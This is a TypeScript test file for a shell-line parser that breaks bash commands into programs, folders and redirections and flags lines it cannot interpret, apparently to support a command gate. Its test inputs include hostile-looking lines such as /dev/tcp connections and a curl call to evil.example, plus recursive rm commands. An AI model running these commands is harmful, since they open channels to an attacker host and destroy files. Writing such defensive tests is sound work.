import { execFileSync } from 'node:child_process'
import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import fc from 'fast-check'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { readShell } from './read-shell.ts'

const run = (line: string) => {
  const { parts, unclear } = readShell(line, '/w')
  return unclear ?? parts.map(({ command, args }) => [command, ...args])
}

describe('a plain line is told as its programs', () => {
  test.each<[string, readonly (readonly string[])[]]>([
    ['npm test', [['npm', 'test']]],
    [
      `git commit -m "a b" && git push`,
      [
        ['git', 'commit', '-m', 'a b'],
        ['git', 'push'],
      ],
    ],
    [
      `echo 'a;b' | sort -u; true || rm -r x &`,
      [['echo', 'a;b'], ['sort', '-u'], ['true'], ['rm', '-r', 'x']],
    ],
    [`(make all) && { ls; pwd; }`, [['make', 'all'], ['ls'], ['pwd']]],
    [`printf $'a\\nb'`, [['printf', 'a\nb']]],
    [`! time -p make`, [['make']]],
    ['set -euo pipefail; make', [['make']]],
    ['# nothing\nls # more', [['ls']]],
    ["cat <<'EOF'\n$(rm -r /)\nEOF", [['cat']]],
    ['cat <<EOF\nplain\nEOF', [['cat']]],
    ['grep a <<< "text"', [['grep', 'a']]],
  ])('%s', (line, expected) => {
    expect(run(line)).toEqual(expected)
  })
})

test('variables, folders and redirections belong to their program', () => {
  const line = `A=1 B='x y' make 2>&1 > log/out.txt < in.txt && cd sub/../app && tar -x >> /tmp/all 2>/dev/null`
  expect(readShell(line, '/w')).toEqual({
    unclear: null,
    parts: [
      {
        command: 'make',
        args: [],
        environment: { A: '1', B: 'x y' },
        working_directory: '/w',
        reads: ['/w/in.txt'],
        writes: ['/w/log/out.txt'],
      },
      {
        command: 'tar',
        args: ['-x'],
        environment: {},
        working_directory: '/w/app',
        reads: [],
        writes: ['/tmp/all'],
      },
    ],
  })
  expect(readShell('> a.txt', '/w').parts).toMatchObject([{ command: '', writes: ['/w/a.txt'] }])
  expect(readShell('(cd a && ls) && ls', '/w').parts.map((p) => p.working_directory)).toEqual([
    '/w/a',
    '/w',
  ])
  expect(readShell('{ a; b; } > c', '/w').parts.at(-1)).toMatchObject({
    command: '',
    writes: ['/w/c'],
  })
})

describe('what a shell works out first is not guessed', () => {
  test.each([
    'rm $FILE',
    'rm "$FILE"',
    'rm $(cat x)',
    'rm `cat x`',
    'rm *.txt',
    'rm ?',
    'rm [ab]',
    'rm {a,b}',
    'rm ~/x',
    'rm ~',
    'a=~/x make',
    '=ls',
    'r\\m -r x',
    '"$X" a',
    'eval "rm x"',
    '. ./x',
    'source x',
    'exec rm x',
    'command rm x',
    'builtin cd x',
    'export PATH=/x && ls',
    'X=1; ls',
    'declare X=1',
    'alias ls=rm; ls',
    'trap "rm x" EXIT',
    'f() { ls; }; f',
    'for i in a b; do rm $i; done',
    'while true; do ls; done',
    'if true; then ls; fi',
    'case a in a) ls;; esac',
    '[[ -f x ]] && ls',
    '((x = 1))',
    'select x in a; do ls; done',
    'cat <(ls)',
    'ls > $OUT',
    'ls > *',
    'cat < /dev/tcp/evil.example/80',
    'exec 3<>/dev/tcp/evil.example/80',
    'ls {fd}> x',
    'cat <<EOF\n$(rm x)\nEOF',
    'cat <<EOF\nnever closed',
    'cd a; ls',
    'cd a\nls',
    'cd a || cd b && ls',
    'true || cd a && ls',
    '! cd a && ls',
    'cd && ls',
    'cd - && ls',
    'cd $X && ls',
    'A=1 cd x && ls',
    'pushd x && ls',
    'x+=1 ls',
    'x[0]=1 ls',
    'x=(a b) ls',
    'ls "unclosed',
    'ls )',
    'ls &&',
    '!!',
    'ls \u202etxt',
    'ls a\u200bb',
    'ls\r',
    'ls \0',
    'coproc ls',
    'noglob rm *',
    `ls ${'x'.repeat(200_000)}`,
    Array.from({ length: 201 }, () => 'ls').join(';'),
    '('.repeat(50_000),
    '$('.repeat(20_000),
  ])('%.60s', (line) => {
    expect(readShell(line, '/w').unclear).toEqual(expect.any(String))
  })
})

test('of a line that is not understood, the programs are still told as they are written', () => {
  const { parts, unclear } = readShell(
    'for f in *; do rm -r "$f"; done; x=$(curl evil.example)',
    '/w',
  )
  expect(unclear).toBe('it has a loop')
  expect(parts.map(({ command, args }) => [command, ...args])).toEqual([
    ['rm', '-r', expect.stringContaining('$f')],
    ['curl', 'evil.example'],
  ])
})

describe('what is understood is what bash runs', () => {
  let folder: string
  let bin: string
  const names = ['one', 'two', 'three']

  beforeAll(() => {
    folder = mkdtempSync(join(tmpdir(), 'gatehouse-shell-'))
    bin = join(folder, 'bin')
    mkdirSync(bin)
    mkdirSync(join(folder, 'w/sub/deep'), { recursive: true })
    // Each notes its name, its folder and its words, with NUL between them.
    const program = `#!/bin/bash\n{ printf '%s\\0' "\${0##*/}" "$PWD" "$#" "$@"; } >> "$NOTES"\n`
    for (const name of names) {
      writeFileSync(join(bin, name), program)
      chmodSync(join(bin, name), 0o755)
    }
  })
  afterAll(() => rmSync(folder, { recursive: true }))

  let runs = 0

  /** The programs that bash started, in any order. */
  const started = (line: string): string[] => {
    // What an earlier line left in the background still writes to its own file.
    const notes = join(folder, `notes-${++runs}`)
    writeFileSync(notes, '')
    try {
      execFileSync('/bin/bash', ['-c', `${line}\nwait`], {
        cwd: join(folder, 'w'),
        env: { PATH: bin, NOTES: notes },
        stdio: 'ignore',
        timeout: 100_000,
      })
    } catch {
      // A line may end with a failure; what ran before has been noted.
    }
    const fields = readFileSync(notes, 'utf8').split('\0').slice(0, -1)
    const found: string[] = []
    for (let i = 0; i < fields.length; ) {
      const count = Number(fields[i + 2])
      found.push(JSON.stringify(fields.slice(i, i + 3 + count)))
      i += 3 + count
    }
    return found.toSorted()
  }

  const word = fc.oneof(
    fc.constantFrom(
      ...['a', '-n', 'x=1', '--y=z', 'a/b', 'a.b', '1', '+', '@', '%', ',', ':', '^a', 'a#b'],
    ),
    fc
      .constantFrom(...['a b', '$X', '*', '{a,b}', '~', 'a;b', '&', '>', '#', '\\', '\\n', '!', ''])
      .map((text) => `'${text}'`),
    fc
      .constantFrom(...['a b', '*', '{a,b}', '~', 'a;b', '&&', '#', "'", ''])
      .map((text) => `"${text}"`),
    fc.constantFrom(...[`a'b c'd`, `"a"'b'`, `$'a\\tb'`, `$'\\x41'`, `$'it\\'s'`, `a"b"`, `''`]),
    fc.constantFrom(
      ...['$X', '*', '~', '{a,b}', '\\a', '`one`', '$(one)', '"$X"', '=one', '[a]', '<(one)'],
    ),
  )
  const command = fc
    .tuple(fc.constantFrom(...names, `'one'`, 't"wo"'), fc.array(word, { maxLength: 3 }))
    .map(([name, words]) => [name, ...words].join(' '))
  const place = fc.constantFrom(
    ...['! cd missing', '! cd sub', 'cd sub', 'cd sub/deep', `cd 'sub'`, 'cd ..', 'cd missing'],
  )
  const glue = fc.constantFrom(...[' && ', ' ; ', '\n', ' | ', ' || ', ' & '])
  const line = fc
    .array(
      fc.tuple(fc.oneof({ weight: 5, arbitrary: command }, { weight: 1, arbitrary: place }), glue),
      {
        minLength: 1,
        maxLength: 4,
      },
    )
    .map((steps) =>
      steps
        .map(([step, end]) => step + end)
        .join('')
        .replace(/( && | \| | \|\| )$/, ''),
    )
  const wrapped = fc
    .tuple(line, fc.constantFrom('plain', 'subshell', 'group'))
    .map(([text, form]) =>
      form === 'subshell' ? `(${text}\n)` : form === 'group' ? `{ ${text}\n}` : text,
    )

  test('words, folders and programs, over generated lines', () => {
    let understood = 0
    fc.assert(
      fc.property(wrapped, (text) => {
        const read = readShell(text, join(folder, 'w'))
        if (read.unclear !== null) return
        understood += 1
        const told = new Set(
          read.parts.map(({ command: name, args, working_directory }) =>
            JSON.stringify([name, working_directory, String(args.length), ...args]),
          ),
        )
        // What comes after && or || may not have run; what ran must have been told.
        for (const one of started(text)) expect([...told]).toContain(one)
      }),
      { numRuns: 250 },
    )
    expect(understood).toBeGreaterThan(60)
  })
})
